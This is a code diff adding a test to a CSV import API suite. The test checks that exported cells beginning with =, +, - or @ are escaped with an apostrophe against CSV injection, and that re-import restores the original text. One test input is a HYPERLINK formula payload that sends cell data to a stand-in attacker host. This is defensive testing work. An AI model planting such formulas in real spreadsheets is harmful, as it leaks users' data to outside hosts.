@@ -237,6 +237,30 @@ describe("POST /api/v1/imports (CSV)", () => {
     expect(again.status, JSON.stringify(again.body)).toBe(201);
     expect(again.body).toMatchObject({ total: 2, valid: 2 });
   });
+
+  it("writes no cell a spreadsheet would run as a formula, and reads its own escape back", async () => {
+    const a = t.accounts[0]!.id;
+    const texts = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1 555 0100", "-- dashes", "@here"];
+    const res = await upload(
+      t,
+      texts.map((text) => ({ accounts: [a], content: [{ text }] })),
+    );
+    expect(res.status).toBe(201);
+    const download = (await call("GET", `/api/v1/imports/${res.body.id}/problems.csv`, { key: t.key })).body;
+    const cells = Papa.parse<Record<string, string>>(download, { header: true }).data.map((r) => r.text);
+    // OWASP's CSV injection defence: a leading = + - @ is preceded by an apostrophe.
+    expect(cells).toEqual(texts.map((text) => `'${text}`));
+    // Uploaded again as it is, the rows read the texts that were imported, not the apostrophes.
+    const again = await uploadCsv(t, download);
+    expect(again.status, JSON.stringify(again.body)).toBe(201);
+    const stored = await env.DB.prepare("SELECT rows FROM imports WHERE id = ?")
+      .bind(again.body.id)
+      .first<{ rows: string }>();
+    const inputs = (JSON.parse(stored!.rows) as Array<{ input: { content: Array<{ text: string }> } }>).map(
+      (row) => row.input.content[0]!.text,
+    );
+    expect(inputs).toEqual(texts);
+  });
 });
 
 describe("POST /api/v1/imports/{id}/commit", () => {
